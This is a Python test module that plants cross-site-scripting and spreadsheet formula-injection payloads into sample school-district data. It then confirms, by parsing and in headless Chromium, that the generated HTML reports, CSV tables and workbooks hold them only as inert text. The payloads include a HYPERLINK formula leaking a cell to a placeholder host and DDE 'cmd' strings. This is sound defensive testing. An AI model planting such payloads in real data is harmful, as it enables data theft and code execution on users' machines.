"""Hostile text stays inert (issue 6, point 3): a corpus of script, event-handler and formula payloads
planted in names, schools, session titles and comments of a sample district reaches the reports as
text: no page runs it (checked in headless Chromium), no CSV or workbook cell is a formula."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import run_cli
from openpyxl import load_workbook

from induction_analysis import cli, exports

pytestmark = pytest.mark.slow

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
SIGNAL = "document.title='PWNED';document.documentElement.setAttribute('data-pwned','1')"
MARKUP = [
    f"<script>{SIGNAL}</script>",
    f'<img src=x onerror="{SIGNAL}">',
    f'"><svg onload="{SIGNAL}">',
    f'</td></tr></table><iframe srcdoc="<script>parent.{SIGNAL}</script>"></iframe>',
    "{{ 7*7 }} ${7*7} <!-- comment --> &amp; &lt;b&gt;",
]
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
CORPUS = MARKUP + FORMULAS
YEAR = "2025-26"


def _plant(raw: Path) -> None:
    """Put the corpus where people type: comments, session titles, names and a school."""
    tickets = raw / "exit_tickets" / f"Exit Ticket - New Teacher Seminar (Responses) {YEAR}.csv"
    rows = list(csv.reader(tickets.open(encoding="utf-8")))
    head = rows[0]
    for i, payload in enumerate(CORPUS, 1):
        rows[i][head.index("What is one thing you will try?")] = payload
        rows[i][head.index("What questions do you still have?")] = payload
    for i, payload in enumerate(FORMULAS + MARKUP[:2], len(CORPUS) + 1):
        rows[i][head.index("Session")] = payload
    with tickets.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    survey = raw / "surveys" / f"Induction Program Survey {YEAR}.csv"
    rows = list(csv.reader(survey.open(encoding="utf-8")))
    for i, payload in enumerate(CORPUS, 1):
        rows[i][-1] = payload
    with survey.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    pairings = raw / "pairings" / f"Mentor pairings {YEAR}.xlsx"
    book = load_workbook(pairings)
    sheet = book.active
    head = [c.value for c in sheet[3]]
    col = {name: head.index(name) + 1 for name in ("New Teacher", "Mentor", "Mentor ID", "School", "Mentor Trained")}
    data_rows = [r for r in range(4, sheet.max_row + 1) if sheet.cell(r, col["Mentor"]).value]
    for r, payload in zip(data_rows, MARKUP):
        sheet.cell(r, col["New Teacher"], payload)
        sheet.cell(r, col["Mentor"], payload)
        sheet.cell(r, col["Mentor ID"], None)  # known by name only: the name reaches the mentor-pool table
        sheet.cell(r, col["Mentor Trained"], "No")
    school = sheet.cell(data_rows[-1], col["School"], FORMULAS[0])
    school.data_type = "s"  # text that looks like a formula (openpyxl would otherwise write a formula)
    book.save(pairings)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    raw = tmp_path_factory.mktemp("hostile-raw")
    assert cli.main(["sample", "--out", str(raw), "--teachers", "250", "--years", "2"]) == 0
    _plant(raw)
    out = tmp_path_factory.mktemp("hostile-reports")
    done = run_cli("run", "--raw", str(raw), "--year", YEAR, "--out", str(out))
    assert done.returncode == 0, done.stderr
    return out / YEAR


def test_the_corpus_reaches_the_reports_as_text(hostile):
    """Not vacuous: the payloads are there, escaped, on the lead-mentor pages and in the tables."""
    lead = (hostile / "lead-mentors-district.html").read_text()
    assert "&lt;script&gt;document.title=" in lead
    assert "&lt;img src=x onerror=" in lead
    tables = "".join(p.read_text(encoding="utf-8") for p in (hostile / "tables").glob("*.csv"))
    assert "'=HYPERLINK(" in tables and "'@SUM(1+1)" in tables


class _Elements(HTMLParser):
    """Every element of a page with its attributes, and the text of its scripts."""

    def __init__(self, text: str):
        super().__init__()
        self.elements, self.scripts, self._in_script = [], [], False
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def test_no_page_runs_injected_script_in_a_real_browser(hostile, tmp_path):
    pages = sorted(hostile.glob("*.html"))
    assert len(pages) >= 6 and any("hyperlink" in p.name for p in pages)  # the hostile school has its page
    for page in pages:
        # as parsed: no element or event handler came from the data
        parsed = _Elements(page.read_text())
        assert not [t for t, _ in parsed.elements if t in ("iframe", "svg", "object", "embed")], page.name
        assert not [
            (t, a) for t, attrs in parsed.elements for a in attrs if a.lower().startswith("on") or a == "srcdoc"
        ], page.name
        assert not [s for s in parsed.scripts if "PWNED" in s], page.name
        assert all(attrs.get("src", "data:").startswith("data:") for t, attrs in parsed.elements if t == "img"), (
            page.name
        )
        done = subprocess.run(
            [
                CHROMIUM,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--no-first-run",
                f"--user-data-dir={tmp_path / 'profile'}",
                "--virtual-time-budget=3000",
                "--dump-dom",
                page.as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=120,
        )
        dom = done.stdout
        assert done.returncode == 0 and "<body" in dom, (page.name, done.stderr[-300:])
        root = re.search(r"<html[^>]*>", dom).group(0)
        assert "data-pwned" not in root and not re.search(r"\sdata-pwned=", dom), page.name  # no payload ran
        title = re.search(r"<title>(.*?)</title>", dom, flags=re.S)
        assert title is None or "PWNED" not in title.group(1), page.name


def _formula_like(value: str) -> bool:
    if not value.startswith(exports.FORMULA_START):
        return False
    try:
        float(value)  # a negative number is a number
        return False
    except ValueError:
        return True


def test_no_csv_cell_is_a_formula(hostile):
    for path in (hostile / "tables").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            for n, row in enumerate(csv.reader(fh), 1):
                bad = [v for v in row if _formula_like(v)]
                assert not bad, (path.name, n, bad)


def test_no_workbook_cell_is_a_formula(hostile):
    book = load_workbook(hostile / f"dese-annual-report-{YEAR}.xlsx")
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
                    seen.append(cell.value)
    assert any(v.startswith("'=HYPERLINK(") for v in seen)  # the hostile school is in the lists, as text
